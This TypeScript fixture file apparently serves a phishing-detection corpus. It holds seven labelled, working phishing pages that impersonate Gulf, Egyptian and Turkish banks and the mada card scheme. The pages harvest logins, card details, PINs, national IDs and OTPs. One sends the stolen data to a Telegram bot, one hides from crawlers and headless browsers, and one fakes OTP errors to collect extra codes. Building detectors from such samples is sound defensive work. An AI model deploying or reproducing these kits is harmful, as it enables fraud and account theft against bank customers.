import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, wordmark, cardCss, cardFields, cardMaskJs, otpBoxes, otpJs, countdownJs, stepFlow, sendFetchForm, sendJson, sendXhr, sendTelegram, json, js, b64, pct, xorHex } from '../parts/yl-kit.js';

const enbdCss = cardCss({ bg: '#eef1f6', primary: '#072447', radius: 4 }) + `
.top{background:#072447;height:64px;display:flex;align-items:center;padding:0 24px}
.notice{background:#fff6e0;border-left:4px solid #f0a500;padding:10px 12px;font-size:13px;margin-bottom:18px;line-height:1.5}
.links{display:flex;justify-content:space-between;margin:14px 0 0;font-size:13px}.links a{color:#0b5cad;text-decoration:none}`;

const rajhiCss = cardCss({ bg: '#f4f6fb', primary: '#1b3fae', radius: 12, font: "'Tajawal','Segoe UI',Tahoma,sans-serif" }) + `
header.h{background:#fff;border-bottom:1px solid #e6e9f2;padding:14px 24px;display:flex;justify-content:space-between;align-items:center}
header.h a{color:#1b3fae;text-decoration:none;font-size:14px}
.tabs{display:flex;background:#eef1fa;border-radius:10px;padding:4px;margin-bottom:20px}.tabs span{flex:1;text-align:center;padding:9px;border-radius:8px;font-size:14px;color:#5b6170}.tabs span.on{background:#fff;color:#1b3fae;font-weight:700}`;

export const entries: Entry[] = [
{
  id: 'yl-enbd-login-otp-card',
  label: 'phishing',
  kind: 'bank-kit-gulf',
  url: 'https://enbd-digital-verify.com/ae/en/personal/login/',
  body: doc({
    title: 'Emirates NBD | Online Banking Login',
    css: enbdCss,
    body: `<div class="top">${wordmark('Emirates NBD', '#ffffff', { size: 22 })}</div>
<div class="wrap">
<div class="card">
<section class="step on"><h1>Online Banking</h1><p class="sub">Login to manage your accounts, cards and payments.</p>
<div class="notice">We have upgraded our Digital Banking security. To avoid temporary suspension of your access, please verify your account details within 24 hours.</div>
<form><div class="f"><label>Username</label><input name="username" autocomplete="username" required></div>
<div class="f"><label>Password</label><input name="password" type="password" autocomplete="current-password" required></div>
<button class="btn">Login</button>
<div class="links"><a href="#">Forgot username?</a><a href="#">Forgot password?</a></div></form></section>
<section class="step"><h1>Verify it's you</h1><p class="sub">Enter the 6-digit OTP sent to your registered mobile number ending in ••••. Resend in <b id="cd">0:59</b></p>
<form>${otpBoxes()}<button class="btn">Verify</button></form></section>
<section class="step"><h1>Confirm your debit card</h1><p class="sub">For your protection, confirm the card linked to your account.</p>
<form>${cardFields({ name: 'Name on card', number: 'Card number', exp: 'Expiry date', cvv: 'CVV' })}<div class="f"><label>ATM PIN</label><input name="pin" type="password" inputmode="numeric" maxlength="4" required></div><button class="btn">Submit</button></form></section>
<section class="step"><div class="spin"></div><p class="sub" style="text-align:center">Please wait while we update your profile…</p><form></form></section>
</div>
<footer>${['Privacy', 'Security', 'Terms &amp; Conditions', 'Contact us'].map((x) => `<a href="#">${x}</a>`).join('')}<br>© 2025 Emirates NBD Bank (P.J.S.C.)</footer>
</div>
<script>${otpJs}${countdownJs('#cd')}${cardMaskJs}</script>
${stepFlow({ send: sendFetchForm('next.php'), finalUrl: 'https://www.emiratesnbd.com/en' })}`,
  }),
  routes: { 'enbd-digital-verify.com/ae/en/personal/login/next.php': json({ ok: 1 }) },
},
{
  id: 'yl-alrajhi-mubasher-telegram',
  label: 'phishing',
  kind: 'bank-kit-gulf',
  url: 'https://alrajhi-mubasher-sa.com/ar/retail/login.html',
  body: doc({
    title: 'مصرف الراجحي | المباشر للأفراد',
    lang: 'ar',
    css: rajhiCss,
    body: `<header class="h">${wordmark('مصرف الراجحي', '#1b3fae', { size: 22, width: 170 })}<a href="#">English</a></header>
<div class="wrap">
<div class="card">
<div class="step on"><div class="tabs"><span class="on">الأفراد</span><span>الشركات</span></div>
<h1>تسجيل الدخول</h1><p class="sub">مرحباً بك في المباشر للأفراد. لتحديث بياناتك واستمرار الخدمة يرجى تسجيل الدخول.</p>
<form><div class="f"><label>اسم المستخدم</label><input name="user" required></div>
<div class="f"><label>كلمة المرور</label><input name="pass" type="password" required></div>
<button class="btn">دخول</button></form><p class="muted" style="margin-top:14px">نسيت كلمة المرور؟ · تسجيل مستخدم جديد</p></div>
<div class="step"><h1>تحديث البيانات</h1><p class="sub">وفقاً لتعليمات البنك المركزي السعودي يلزم تحديث بيانات الهوية.</p>
<form><div class="f"><label>رقم الهوية الوطنية / الإقامة</label><input name="nid" inputmode="numeric" maxlength="10" required></div>
<div class="f"><label>رقم الجوال</label><input name="mobile" inputmode="tel" placeholder="05xxxxxxxx" required></div>
<div class="f"><label>تاريخ الميلاد</label><input name="dob" placeholder="يوم/شهر/سنة" required></div>
<button class="btn">متابعة</button></form></div>
<div class="step"><h1>رمز التحقق</h1><p class="sub">تم إرسال رمز التحقق إلى جوالك المسجل. لا تشارك الرمز مع أي شخص. <span id="cd">0:59</span></p>
<form>${otpBoxes(4)}<button class="btn">تأكيد</button></form></div>
<div class="step"><div class="spin"></div><p class="sub" style="text-align:center">جاري التحقق من البيانات، يرجى الانتظار...</p><form></form></div>
</div>
<footer>جميع الحقوق محفوظة © مصرف الراجحي 2025</footer></div>
<script>${otpJs}${countdownJs('#cd', 90)}</script>
${stepFlow({ send: sendTelegram('7412093385:AAH3kQz0rWfVv1mP8sXeL2cTq9dNnYbUo4g', '-1002231987745', '[RAJHI] new'), finalUrl: 'https://www.alrajhibank.com.sa/', delayMs: 4000 })}`,
  }),
},
{
  id: 'yl-cib-eg-sms-shortlink',
  label: 'phishing',
  kind: 'bank-kit-redirect',
  url: 'https://egy-l.ink/CIB77x',
  routes: {
    'egy-l.ink/CIB77x': redirectRoute(302, 'https://cib-eg-ebanking.net/r/?c=sms&t=1729'),
    'cib-eg-ebanking.net/r/': htmlRoute(`<!doctype html><html><head><meta charset="utf-8"><meta http-equiv="refresh" content="0;url=/ebanking/login.aspx"><script>location.replace('/ebanking/login.aspx')</script></head><body></body></html>`),
    'cib-eg-ebanking.net/ebanking/login.aspx': htmlRoute(doc({
      title: 'CIB Internet Banking',
      css: cardCss({ bg: '#e9eef3', primary: '#003b71', radius: 2 }) + `.hd{background:#fff;padding:14px 30px;border-bottom:3px solid #7fb3e0;display:flex;align-items:center;gap:14px}.hd small{color:#5a6575}.warn{font-size:13px;background:#eaf3fc;padding:10px;margin-bottom:16px;border-radius:2px}`,
      body: `<div class="hd">${wordmark('CIB', '#003b71', { size: 30 })}<small>Commercial International Bank – Egypt</small></div>
<div class="wrap"><div class="card">
<div class="step on"><h1>Internet Banking Login</h1>
<div class="warn">Dear customer, your account access has been restricted due to incomplete KYC data. Please log in to update your information and avoid suspension.</div>
<form><div class="f"><label>User ID</label><input name="uid" required></div><div class="f"><label>Password</label><input type="password" name="pwd" required></div><button class="btn">Sign In</button></form></div>
<div class="step"><h1>Update your information</h1><form>
<div class="f"><label>National ID (14 digits)</label><input name="nid" maxlength="14" inputmode="numeric" required></div>
<div class="f"><label>Mobile number</label><input name="mob" placeholder="01xxxxxxxxx" required></div>
${cardFields({ name: 'Cardholder name', number: 'Debit / credit card number', exp: 'Expiry', cvv: 'CVV' })}
<button class="btn">Continue</button></form></div>
<div class="step"><h1>Transaction authentication</h1><p class="sub">Enter the one-time password (OTP) sent by SMS from CIB.</p><form>${otpBoxes()}<button class="btn">Submit</button></form></div>
</div><footer>© Commercial International Bank (Egypt) S.A.E. · Hotline 19666</footer></div>
<script>${cardMaskJs}${otpJs}</script>
${stepFlow({ send: sendXhr('/ebanking/inc/save.php'), finalUrl: 'https://www.cibeg.com/' })}`,
    })),
    'cib-eg-ebanking.net/ebanking/inc/save.php': json({ r: 1 }),
  },
},
{
  id: 'yl-garanti-bonus-puan-card',
  label: 'phishing',
  kind: 'card-rewards-kit-tr',
  url: 'https://garanti-bonus-puanlarim.com/puan-sorgula',
  body: doc({
    title: 'Bonus Puan Sorgulama | Garanti BBVA',
    lang: 'tr',
    css: cardCss({ bg: 'linear-gradient(180deg,#e9f6f2,#fff)', primary: '#00a78e', radius: 14 }) + `.banner{background:#00a78e;color:#fff;border-radius:14px;padding:18px;margin-bottom:18px}.banner b{font-size:28px;display:block}.banner small{opacity:.9}`,
    body: `<div class="wrap"><div class="logo">${wordmark('Garanti BBVA', '#004481', { size: 24 })}</div>
<div class="banner">Biriken Bonus puanınız<b>2.847,50 TL</b><small>Son kullanım tarihi bugün 23:59. Süresi dolan puanlar silinecektir.</small></div>
<div class="card">
<div class="step on"><h1>Puanlarınızı nakde çevirin</h1><p class="sub">Puanlarınızın kartınıza aktarılabilmesi için kart bilgilerinizi doğrulayın.</p>
<form>${cardFields({ name: 'Kart üzerindeki isim', number: 'Kart numarası', exp: 'Son kullanma tarihi', cvv: 'CVV' })}
<div class="f"><label>Kart limitiniz</label><input name="limit" inputmode="numeric" required></div><button class="btn">Puanları Aktar</button></form></div>
<div class="step"><h1>3D Secure Doğrulama</h1><p class="sub">Kartınıza tanımlı telefona gönderilen tek kullanımlık şifreyi giriniz.</p><form>${otpBoxes()}<button class="btn">Onayla</button></form></div>
<div class="step"><h1>İşlem başarılı</h1><p class="sub">Bonus puanlarınız 24 saat içinde kartınıza yansıyacaktır.</p><form></form></div>
</div><footer>Garanti BBVA © 2025 · 444 0 333</footer></div>
<script>${cardMaskJs}${otpJs}
document.querySelector('[data-card=number]').addEventListener('blur',function(){if(!window.__luhn(this.value.replace(/\\D/g,'')))alert('Lütfen geçerli bir kart numarası giriniz.')});</script>
${stepFlow({ send: sendFetchForm('/gonder.php'), finalUrl: 'https://www.garantibbva.com.tr/', delayMs: 3000 })}`,
  }),
  routes: { 'garanti-bonus-puanlarim.com/gonder.php': json({ ok: true }) },
},
{
  id: 'yl-adcb-touchpoints-redeem',
  label: 'phishing',
  kind: 'card-rewards-kit-gulf',
  url: 'https://touchpoints-adcb-rewards.com/redeem',
  body: doc({
    title: 'ADCB TouchPoints – Redeem before expiry',
    css: cardCss({ bg: '#f3f3f3', primary: '#c8102e', radius: 10 }) + `.hero{background:#c8102e;color:#fff;padding:26px 20px;text-align:center}.hero h2{margin:0 0 6px;font-size:24px}.pts{font-size:38px;font-weight:800}.timer{background:#fff2f2;color:#c8102e;text-align:center;padding:8px;border-radius:8px;font-weight:700;margin-bottom:16px}`,
    body: `<div class="hero">${wordmark('ADCB', '#fff', { size: 30 })}<h2>Your TouchPoints are expiring</h2><div class="pts">14,260</div><div>TouchPoints worth AED 142.60</div></div>
<div class="wrap"><div class="card">
<div class="timer">Expires in <span id="t">09:59</span></div>
<div class="step on"><h1>Redeem as cashback</h1><p class="sub">Enter the details of the ADCB card to credit your TouchPoints.</p>
<form>${cardFields({ name: 'Name on card', number: 'ADCB card number', exp: 'Valid thru', cvv: 'CVV' })}<div class="f"><label>Mobile number</label><input name="mobile" value="+971 5" required></div><button class="btn">Redeem now</button></form></div>
<div class="step"><h1>Enter OTP</h1><p class="sub">To authorise the cashback please enter the OTP sent to your mobile.</p><form>${otpBoxes()}<button class="btn">Confirm</button></form></div>
<div class="step"><div class="spin"></div><p class="sub" style="text-align:center">Processing your redemption…</p><form></form></div>
</div><footer>© 2025 Abu Dhabi Commercial Bank PJSC</footer></div>
<script>${cardMaskJs}${otpJs}
(function(){var s=599,e=document.getElementById('t');setInterval(function(){if(s>0)s--;e.textContent=('0'+Math.floor(s/60)).slice(-2)+':'+('0'+s%60).slice(-2)},1000)})();</script>
${stepFlow({ send: sendFetchForm('/api/v1/r.php'), finalUrl: 'https://www.adcb.com/en/personal/rewards/touchpoints/' })}`,
  }),
  routes: { 'touchpoints-adcb-rewards.com/api/v1/r.php': json({ code: 0 }) },
},
{
  id: 'yl-nbe-cloaked-webdriver',
  label: 'phishing',
  kind: 'bank-kit-cloaked',
  url: 'https://nbe-alahly-online.com/ar/',
  body: `<!DOCTYPE html><html lang="ar" dir="rtl"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>البنك الأهلي المصري</title>
<style>body{margin:0;font-family:Tahoma,Arial,sans-serif;background:#f4f4f4}</style></head>
<body><div id="app"></div>
<script>
(function(){
  var ua=navigator.userAgent, bot=/bot|crawl|spider|headless|lighthouse|phantom|python|curl|wget/i.test(ua)||navigator.webdriver===true||!navigator.languages||navigator.languages.length===0;
  if(bot||screen.width<200){document.open();document.write('<html><head><title>403 Forbidden</title></head><body><center><h1>403 Forbidden</h1></center><hr><center>nginx</center></body></html>');document.close();return;}
  var x=new XMLHttpRequest();x.open('GET','/ar/assets/tpl.html?v='+Date.now(),true);
  x.onload=function(){document.getElementById('app').innerHTML=x.responseText;var s=document.createElement('script');s.src='/ar/assets/run.js';document.body.appendChild(s)};x.send();
})();
</script></body></html>`,
  routes: {
    'nbe-alahly-online.com/ar/assets/tpl.html': htmlRoute(`<div style="background:#005236;padding:14px 24px;color:#fff;font-size:20px;font-weight:bold">البنك الأهلي المصري <span style="font-size:12px;font-weight:normal">الإنترنت البنكي</span></div>
<div style="max-width:400px;margin:40px auto;background:#fff;padding:26px;border-radius:8px;box-shadow:0 2px 10px rgba(0,0,0,.08)">
<h2 style="color:#005236;margin-top:0">تسجيل الدخول</h2><p style="font-size:13px;color:#666">عميلنا العزيز، لاستلام مبلغ الاسترداد الخاص بك يرجى تسجيل الدخول وتأكيد بيانات البطاقة.</p>
<form id="k"><p><input name="user" placeholder="اسم المستخدم" style="width:100%;height:42px;box-sizing:border-box;padding:0 10px"></p><p><input name="pass" type="password" placeholder="كلمة المرور" style="width:100%;height:42px;box-sizing:border-box;padding:0 10px"></p>
<p><input name="card" placeholder="رقم البطاقة" inputmode="numeric" style="width:100%;height:42px;box-sizing:border-box;padding:0 10px"></p><p style="display:flex;gap:8px"><input name="exp" placeholder="MM/YY" style="flex:1;height:42px;padding:0 10px"><input name="cvv" placeholder="CVV" style="flex:1;height:42px;padding:0 10px"></p>
<button style="width:100%;height:44px;background:#005236;color:#fff;border:0;font-size:16px">دخول</button></form></div>`),
    'nbe-alahly-online.com/ar/assets/run.js': js(`document.getElementById('k').addEventListener('submit',function(e){e.preventDefault();var d=new FormData(this);fetch('/ar/assets/rcv.php',{method:'POST',body:d}).finally(function(){location.href='https://www.nbe.com.eg/NBE/E/#/AR/Home'})});`),
    'nbe-alahly-online.com/ar/assets/rcv.php': json({ ok: 1 }),
  },
},
{
  id: 'yl-mada-3ds-acs-otp',
  label: 'phishing',
  kind: 'card-3ds-kit',
  url: 'https://mada-3dsecure-acs.com/acs/auth?txn=8841203917',
  body: doc({
    title: 'mada – 3D Secure Authentication',
    lang: 'ar',
    css: `body{font-family:Arial,Tahoma,sans-serif;background:#fff;margin:0}.box{max-width:420px;margin:20px auto;border:1px solid #ddd;padding:18px}.lg{display:flex;justify-content:space-between;align-items:center;border-bottom:1px solid #eee;padding-bottom:12px}
table{width:100%;font-size:13px;margin:14px 0;border-collapse:collapse}td{padding:5px 2px}td:first-child{color:#666}input{width:100%;height:40px;font-size:18px;text-align:center;letter-spacing:6px;box-sizing:border-box}button{width:100%;height:42px;background:#84bd00;border:0;color:#fff;font-size:16px;margin-top:12px}.m{font-size:12px;color:#777;margin-top:10px}`,
    body: `<div class="box"><div class="lg">${wordmark('mada', '#84bd00', { size: 26 })}<span style="font-size:12px;color:#444">Secure Code / الرمز الآمن</span></div>
<p style="font-size:14px">تم إرسال رمز التحقق إلى رقم الجوال المسجل لدى البنك المصدر للبطاقة.</p>
<table><tr><td>التاجر</td><td>SADAD – Ministry of Interior</td></tr><tr><td>المبلغ</td><td>SAR 1.00</td></tr><tr><td>التاريخ</td><td id="dt"></td></tr><tr><td>رقم البطاقة</td><td dir="ltr">XXXX XXXX XXXX <span id="l4">****</span></td></tr></table>
<form id="f"><input name="otp" maxlength="6" inputmode="numeric" autocomplete="one-time-code" required><button>تأكيد</button></form>
<p class="m">يرجى عدم إغلاق هذه الصفحة. إعادة إرسال الرمز خلال <span id="cd">0:59</span></p></div>
<script>${countdownJs('#cd')}
document.getElementById('dt').textContent=new Date().toLocaleString('ar-SA');
try{var c=JSON.parse(sessionStorage.getItem('c')||'{}');if(c.n)document.getElementById('l4').textContent=c.n.slice(-4)}catch(e){}
var tries=0;document.getElementById('f').onsubmit=function(e){e.preventDefault();tries++;var v=this.otp.value;
fetch('/acs/submit',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({otp:v,txn:new URLSearchParams(location.search).get('txn'),t:tries})});
if(tries<2){this.otp.value='';alert('رمز التحقق غير صحيح، تم إرسال رمز جديد');}else{location.href='https://www.absher.sa/'}};</script>`,
  }),
  routes: { 'mada-3dsecure-acs.com/acs/submit': json({ ok: true }) },
},
];
